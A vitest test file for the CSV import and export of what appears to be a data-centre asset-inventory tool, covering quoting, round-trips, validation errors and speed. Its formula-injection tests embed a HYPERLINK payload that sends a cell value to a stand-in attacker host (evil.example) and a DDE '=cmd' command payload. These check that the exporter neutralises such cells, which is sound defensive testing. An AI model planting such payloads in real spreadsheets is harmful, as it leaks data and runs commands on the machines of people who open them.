import { describe, expect, it } from 'vitest';
import { ciInput, type CiInput, type CiType } from '../types.ts';
import { csvColumns, exportCsv, importCsv, type CsvCi } from './csv.ts';

const ci = (input: CiInput): CsvCi => ciInput.parse(input);
const BOM = '\uFEFF';
/** A file as someone would type it: header line plus rows, CRLF. */
const file = (...lines: string[]) => `${lines.join('\r\n')}\r\n`;
const header = (type: Parameters<typeof csvColumns>[0]) => csvColumns(type).map((c) => c.name).join(',');

const racks: CsvCi[] = [
  ci({
    key: 'r01', type: 'rack', name: 'Rack R01', status: 'active', parent: 'data-hall-1', serial: 'RK-0101', assetTag: 'TY1-RK-0101',
    owner: 'Facilities, Tokyo', installDate: '2023-04-01', warrantyEnd: '2028-03-31', supportEnd: '2030-03-31',
    maintenanceContract: 'MC-2023-17', maintenanceVendor: 'Rittal K.K.', devices: ['rack-sensor-r01', 'pdu-r01-a'],
    description: 'Row A, "hot" aisle side\r\nsecond line, with comma', tags: ['production', 'pci-dss'],
    attributes: { uHeight: 42, maxWeightKg: 1000.5, maxKw: 8, airflow: 'front-to-rear', gridX: 3, gridY: 0, descendingUnits: false },
  }),
  ci({ key: 'r02', type: 'rack', name: 'ラック R02', status: 'planned', parent: 'data-hall-1', attributes: { uHeight: 48 } }),
  ci({ key: 'r03', type: 'rack', name: '  spaced  ', description: '  keeps its spaces  ', attributes: { uHeight: 42, descendingUnits: true } }),
];

describe('exportCsv', () => {
  it('writes the common columns, then one attr.<name> column per attribute of the type', () => {
    const [first] = exportCsv('rack', []).split('\r\n');
    expect(first).toBe(BOM + [
      'key', 'name', 'status', 'parent', 'positionU', 'face', 'model', 'serial', 'assetTag', 'owner', 'installDate', 'warrantyEnd',
      'supportEnd', 'maintenanceContract', 'maintenanceVendor', 'devices', 'description', 'tags',
      'attr.uHeight', 'attr.maxWeightKg', 'attr.maxKw', 'attr.coolingKw', 'attr.airflow', 'attr.gridX', 'attr.gridY', 'attr.descendingUnits',
    ].join(','));
  });

  it('quotes per RFC 4180 and joins lists with ;', () => {
    const text = exportCsv('rack', racks.slice(0, 1), { bom: false });
    expect(text).toContain('"Facilities, Tokyo"');
    expect(text).toContain('"Row A, ""hot"" aisle side\r\nsecond line, with comma"');
    expect(text).toContain(',production;pci-dss,');
    expect(text).toContain(',rack-sensor-r01;pdu-r01-a,');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('marks cells a spreadsheet would run as formulas, but not plain negative numbers', () => {
    const hostile = ci({
      key: 'tyo1', type: 'site', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', owner: '+81 3 1234 5678',
      description: '@SUM(1+1)', maintenanceVendor: '-vendor', tags: ['=cmd'], attributes: { latitude: -33.86, longitude: 151.2 },
    });
    const text = exportCsv('site', [hostile], { bom: false });
    const row = text.split('\r\n')[1];
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(row).toContain(`'+81 3 1234 5678`);
    expect(row).toContain(`'@SUM(1+1)`);
    expect(row).toContain(`'-vendor`);
    expect(row).toContain(`'=cmd`);
    expect(row).toContain(',-33.86,');
    for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
  });

  it('refuses CIs of another type', () => {
    expect(() => exportCsv('site', racks)).toThrow(RangeError);
  });
});

describe('importCsv', () => {
  it('round-trips: export then import gives the same CIs', () => {
    const { plan, errors } = importCsv('rack', exportCsv('rack', racks));
    expect(errors).toEqual([]);
    expect(plan).toEqual({ source: 'import:csv', models: [], cis: racks, relations: [] });
  });

  it('round-trips every type’s value kinds: booleans, number lists, enum lists, formulas, negatives', () => {
    const cis: Array<[CiType, CsvCi[]]> = Object.entries({
      site: [ci({ key: 'syd1', type: 'site', name: '=1+1', owner: "'=already marked", attributes: { latitude: -33.86, longitude: 151.2, timezone: 'Australia/Sydney' } })],
      sensor: [ci({ key: 's1', type: 'sensor', name: 'Inlet R01', parent: 'r01', positionU: 40, face: 'front', attributes: { measures: ['temperature', 'humidity'] } })],
      pdu: [ci({ key: 'pdu-a', type: 'pdu', name: 'PDU A', model: 'raritan/px3-5190r', attributes: { outletCount: 36, ratedA: 30, voltageV: 200, floorStanding: false } })],
      ups: [ci({ key: 'ups-1', type: 'ups', name: 'UPS 1', status: 'maintenance', attributes: { ratedKva: 500, ratedKw: 450, topology: 'online-double-conversion', runtimeMin: 12.5 } })],
    }) as Array<[CiType, CsvCi[]]>;
    for (const [type, list] of cis) {
      const { plan, errors } = importCsv(type, exportCsv(type, list));
      expect(errors, type).toEqual([]);
      expect(plan.cis, type).toEqual(list);
    }
  });

  it('reads a BOM, CRLF, quoted commas, doubled quotes and line breaks inside cells', () => {
    const text = BOM + file(
      'key,name,description,attr.uHeight',
      'r01,"Rack, one","He said ""hi""',
      'and left",42',
      'r02,Rack two,,47',
    );
    const { plan, errors } = importCsv('rack', text);
    expect(errors).toEqual([]);
    expect(plan.cis).toEqual([
      ci({ key: 'r01', type: 'rack', name: 'Rack, one', description: 'He said "hi"\r\nand left', attributes: { uHeight: 42 } }),
      ci({ key: 'r02', type: 'rack', name: 'Rack two', attributes: { uHeight: 47 } }),
    ]);
  });

  it('counts rows as a spreadsheet does: a cell with a line break keeps its record on one row', () => {
    const text = file('key,name,description,attr.uHeight', 'r01,One,"line 1\nline 2\nline 3",42', 'r02,Two,,tall');
    const { errors } = importCsv('rack', text);
    expect(errors).toEqual([{ collection: 'rack.csv', row: 3, ref: 'r02', field: 'attr.uHeight', message: 'expected a number, got "tall"' }]);
  });

  it('strips the formula guard the exporter adds, and keeps a formula typed without it as plain text', () => {
    const text = file('key,name,owner,description', `site-1,'=SUM(A1:A9),'-ops team,=cmd|' /C calc'!A0`);
    const { plan, errors } = importCsv('site', text);
    expect(errors).toEqual([]);
    expect(plan.cis[0]).toMatchObject({ name: '=SUM(A1:A9)', owner: '-ops team', description: "=cmd|' /C calc'!A0" });
  });

  it('reports wrong types by row and column, skips those rows and keeps the good ones', () => {
    const text = file(
      'key,name,status,positionU,face,installDate,tags,attr.measures',
      's1,Good sensor,active,40,front,2024-01-31,env;rack-r01,temperature;humidity',
      's2,Bad U,active,forty,front,,,',
      's3,Bad status,broken,,,,,',
      's4,Bad date,,,,2024-13-01,,',
      's5,Bad face,,,side,,,',
      's6,Bad measure,,,,,,temperature;smell',
      'bad key!,Bad key,,,,,,',
      ',No key,,,,,,',
      's9,,,,,,,',
      's1,Duplicate,,,,,,',
      's11,Too high,,61,,,,',
    );
    const { plan, errors } = importCsv('sensor', text);
    expect(plan.cis.map((c) => c.key)).toEqual(['s1']);
    expect(plan.cis[0]).toMatchObject({ positionU: 40, tags: ['env', 'rack-r01'], attributes: { measures: ['temperature', 'humidity'] } });
    expect(errors.map((e) => [e.row, e.field])).toEqual([
      [3, 'positionU'],
      [4, 'status'],
      [5, 'installDate'],
      [6, 'face'],
      [7, 'attr.measures'],
      [8, 'key'],
      [9, 'key'],
      [10, 'name'],
      [11, 'key'],
      [12, 'positionU'],
    ]);
    expect(errors[0]).toEqual({ collection: 'sensor.csv', row: 3, ref: 's2', field: 'positionU', message: 'expected a number, got "forty"' });
    expect(errors.find((e) => e.row === 11)!.message).toBe('duplicate key (also row 2)');
  });

  it('parses booleans and rejects anything else', () => {
    const text = file('key,name,attr.uHeight,attr.descendingUnits', 'a,A,42,yes', 'b,B,42,FALSE', 'c,C,42,maybe');
    const { plan, errors } = importCsv('rack', text);
    expect(plan.cis.map((c) => c.attributes)).toEqual([{ uHeight: 42, descendingUnits: true }, { uHeight: 42, descendingUnits: false }]);
    expect(errors).toEqual([expect.objectContaining({ row: 4, field: 'attr.descendingUnits' })]);
  });

  it('reports unknown columns once, on the header row, and still imports', () => {
    const text = file('key,name,colour,attr.uHeight,attr.colour,type', 'r1,R1,red,42,blue,rack', 'r2,R2,green,42,,rack');
    const { plan, errors } = importCsv('rack', text);
    expect(plan.cis.map((c) => c.key)).toEqual(['r1', 'r2']);
    expect(errors).toEqual([
      { collection: 'rack.csv', row: 1, field: 'colour', message: 'unknown column for a rack; ignored' },
      { collection: 'rack.csv', row: 1, field: 'attr.colour', message: 'unknown column for a rack; ignored' },
      { collection: 'rack.csv', row: 1, field: 'type', message: 'unknown column for a rack; ignored' },
    ]);
  });

  it('needs a header with key, name and the type’s required attributes', () => {
    expect(importCsv('rack', '').errors).toEqual([expect.objectContaining({ row: 1, field: 'header' })]);
    expect(importCsv('rack', file('name,attr.uHeight', 'R1,42')).errors).toEqual([expect.objectContaining({ row: 1, field: 'key', message: 'required column missing' })]);
    const noHeight = importCsv('rack', file('key,name', 'r1,R1'));
    expect(noHeight.plan.cis).toEqual([]);
    expect(noHeight.errors).toEqual([expect.objectContaining({ row: 1, field: 'attr.uHeight' })]);
  });

  it('skips blank rows and trailing empty cells; flags values past the last column', () => {
    const text = file('key,name', 'a,A,,', '', ',', 'b,B,,stray');
    const { plan, errors } = importCsv('site', text);
    expect(plan.cis.map((c) => c.key)).toEqual(['a']);
    expect(errors).toEqual([expect.objectContaining({ row: 5, field: 'column D', message: 'value beyond the last header column' })]);
  });

  it('keeps the rows before an unclosed quote and says where reading stopped', () => {
    const text = file('key,name', 'a,A', 'b,"B', 'c,C');
    const { plan, errors } = importCsv('site', text);
    expect(plan.cis.map((c) => c.key)).toEqual(['a']);
    expect(errors).toEqual([expect.objectContaining({ row: 3, field: 'row', message: expect.stringMatching(/unreadable CSV/) })]);
  });

  it('imports a 10,000-row file quickly and reports a bad row deep inside it', () => {
    const rows = Array.from({ length: 10_000 }, (_, i) => `srv-${i},Server ${i},active,r${i % 50},${(i % 40) + 1},front,${i === 4999 ? 'oops' : 'prod;web'}`);
    rows[6000] = rows[6000].replace(',front,', ',sideways,');
    const text = BOM + file('key,name,status,parent,positionU,face,tags', ...rows);
    const started = performance.now();
    const { plan, errors } = importCsv('server', text);
    const elapsedMs = performance.now() - started;
    expect(plan.cis).toHaveLength(9_999);
    expect(errors).toEqual([expect.objectContaining({ row: 6002, ref: 'srv-6000', field: 'face' })]);
    expect(plan.cis[4999]).toMatchObject({ key: 'srv-4999', tags: ['oops'] });
    expect(elapsedMs).toBeLessThan(10_000);
    // …and the export of the same CIs reads back identically.
    expect(importCsv('server', exportCsv('server', plan.cis as CsvCi[])).plan.cis).toEqual(plan.cis);
  });
});
